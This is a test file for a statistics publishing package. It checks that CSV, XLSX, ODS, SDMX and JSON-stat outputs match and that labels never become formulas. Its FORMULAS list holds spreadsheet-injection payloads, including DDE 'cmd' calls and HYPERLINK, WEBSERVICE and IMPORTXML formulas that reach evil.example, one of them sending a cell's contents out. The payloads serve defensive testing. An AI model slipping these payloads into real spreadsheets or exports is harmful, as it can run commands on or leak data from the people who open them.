"""All formats of one release say the same, cell by cell, and nothing in them is ever taken for a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from incidents.core.release import Row, from_csv
from incidents.core.tables import Table
from incidents.publishing import jsonstat, ods, schemas, sdmx, sheets, tidy, whole, xlsx
from incidents.publishing.edition import Edition, figures
from tests.publishing import editions
from tests.publishing.editions import GROUND, REGIONS, SOME, a_row, an_edition, truth

CODES = ["_T", "origin", "race", "language", "age"]
AREAS = ["_T", "RS12", "online"]
TIMES = ["2026-Q1", "2026-Q2", "2026"]

# What makes spreadsheets run something: OWASP's list, commands, addresses, and what looks like numbers and dates.
FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"press")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    ";=1+1",
    "=1+1;2",
    "{=1+1}",
    '=WEBSERVICE("https://evil.example")',
    '=IMPORTXML("https://evil.example","//a")',
    "https://evil.example",
    "mailto:a@evil.example",
    "1E5",
    "007",
    "1/2",
    "TRUE",
    "#REF!",
    "_x0041_",
    "<b>&amp;</b>",
    " two  spaces ",
    "",
]

figures_of = st.integers(0, 10**6)
bounds = st.tuples(st.integers(0, 20), st.none() | st.integers(20, 99))


@st.composite
def some_tables(draw: st.DrawFn) -> dict[Table, list[Row]]:
    """Two tables with any of their cells, shown or withheld."""
    found: dict[Table, list[Row]] = {}
    for table, axes in ((GROUND, [CODES]), (REGIONS, [AREAS, CODES])):
        cells: list[tuple[str, ...]] = [(time,) for time in TIMES]
        for axis in axes:
            cells = [(*cell, code) for cell in cells for code in axis]
        chosen = draw(st.lists(st.sampled_from(cells), min_size=1, max_size=12, unique=True))
        rows = []
        for time, *codes in chosen:
            lower, upper = draw(bounds)
            rows.append(a_row(time, *codes, value=draw(st.none() | figures_of), lower=lower, upper=upper))
        found[table] = rows
    return found


def read_back(edition: Edition, tag: str) -> dict[str, dict[str, Any]]:
    """By format, the cells of each table."""
    tables = {name: figures(edition, name, tag) for name in edition.tables}
    book = sheets.sheets(edition, list(tables.values()), tag)
    by_xlsx = editions.from_xlsx(xlsx.write(book, title="x", made_on=editions.DAY))
    by_ods = editions.from_ods(ods.write(book, title="x", made_on=editions.DAY))
    sizes = {name: len(table.dimensions) - 1 for name, table in tables.items()}
    return {
        "frozen": {name: truth(from_csv(edition.files[f"{name}.csv"])) for name in tables},
        "tidy": {name: editions.from_tidy(tidy.write(edition, table)) for name, table in tables.items()},
        "sdmx": {name: editions.from_sdmx(sdmx.write(edition, table)) for name, table in tables.items()},
        "xlsx": {name: editions.from_sheet(by_xlsx[name], sizes[name]) for name in tables},
        "ods": {name: editions.from_sheet(by_ods[name], sizes[name]) for name in tables},
    }


@settings(max_examples=40)
@given(some_tables())
def test_all_formats_agree_cell_by_cell(tables: dict[Table, list[Row]]) -> None:
    edition = an_edition(tables)
    wanted = {table.name: truth(rows) for table, rows in tables.items()}
    for form, found in read_back(edition, "hu").items():
        assert found == wanted, form
    for name, cells in wanted.items():
        cube = editions.from_jsonstat(jsonstat.write(edition, figures(edition, name, "hu")))
        assert cube == {codes: (value, lower, upper) for codes, value, lower, upper in cells}


@settings(max_examples=40)
@given(some_tables(), st.fixed_dictionaries(dict.fromkeys([*CODES, *AREAS], st.text(max_size=40))))
def test_no_label_whatever_changes_a_figure_or_breaks_a_file(
    tables: dict[Table, list[Row]], labels: dict[str, str]
) -> None:
    edition = an_edition(tables, label=lambda code: labels.get(code, code))
    wanted = {table.name: truth(rows) for table, rows in tables.items()}
    for form, found in read_back(edition, "sr-Latn").items():
        assert found == wanted, form


@pytest.mark.parametrize("label", FORMULAS)
def test_a_label_that_looks_like_a_formula_arrives_as_text(label: str) -> None:
    edition = an_edition(label=lambda code: label if code == "race" else code)
    table = figures(edition, "ground", "en")
    book = sheets.sheets(edition, [table], "en")
    plain = label.replace("\0", "\ufffd")
    in_xlsx = _label(editions.from_xlsx(xlsx.write(book, title=label, made_on=editions.DAY))["ground"])
    assert in_xlsx in {plain, plain.replace("\r", "_x000D_")}  # which Excel reads as the end of a line
    in_ods = _label(editions.from_ods(ods.write(book, title=label, made_on=editions.DAY))["ground"])
    assert in_ods == plain.replace("\r", "\n")
    lines = csv.DictReader(io.StringIO(tidy.write(edition, table).decode(), newline=""))
    [in_csv] = {line["ground_label"] for line in lines if line["ground"] == "race"}
    assert in_csv in {label, f"'{label}"}
    assert in_csv[:1] not in set("=+-@\t\r\n\0＝＋－＠")


def _label(lines: editions.Lines) -> str:
    """What the sheet calls the code `race`."""
    [found] = {line[1] for line in lines if line[2] == "race"}
    return str(found)


def test_numbers_in_labels_of_csv_stay_as_they_are() -> None:
    edition = an_edition(label=lambda code: "-5" if code == "race" else "+1,5")
    content = tidy.write(edition, figures(edition, "ground", "en")).decode()
    assert ",race,-5," in content
    assert ',_T,"+1,5",' in content


def test_the_same_release_gives_the_same_bytes() -> None:
    def made() -> list[bytes]:
        edition = an_edition()
        table = figures(edition, "ground", "mk")
        book = sheets.sheets(edition, [table], "mk")
        return [
            tidy.write(edition, table),
            jsonstat.write(edition, table),
            sdmx.write(edition, table),
            xlsx.write(book, title="x", made_on=editions.DAY),
            ods.write(book, title="x", made_on=editions.DAY),
            schemas.package(edition, [table]),
            sdmx.structure(edition, [table], {"mk": edition.words("mk")}),
            whole.write(edition, "mk", ["mk", "en"]),
        ]

    assert made() == made()


def test_every_workbook_says_what_it_is_made_of() -> None:
    edition = an_edition()
    book = sheets.sheets(edition, whole.all_tables(edition, "en"), "en")
    about = dict(editions.from_xlsx(xlsx.write(book, title="x", made_on=editions.DAY))["About these figures"])
    assert about["Release 7"] == editions.ADDRESS
    assert about["Licence"].startswith("CC BY 4.0")
    assert about["Checksum (SHA-256): SHA256SUMS"] == edition.digest
    assert set(about) >= {"How we count", "How to cite", "[c]", "ground", "region_ground", "Published on"}


def test_sheets_have_names_that_excel_takes() -> None:
    long = Table("time-area_region-ground_group-verification", ("time", "area@region", "ground@group"))
    other = Table("time-area_region-ground_group-verification-age", long.cuts)
    edition = an_edition({long: SOME[REGIONS], other: SOME[REGIONS]})
    names = [sheet.name for sheet in sheets.sheets(edition, whole.all_tables(edition, "en"), "en")]
    assert all(len(one) <= 31 for one in names)
    assert len(set(names)) == 3
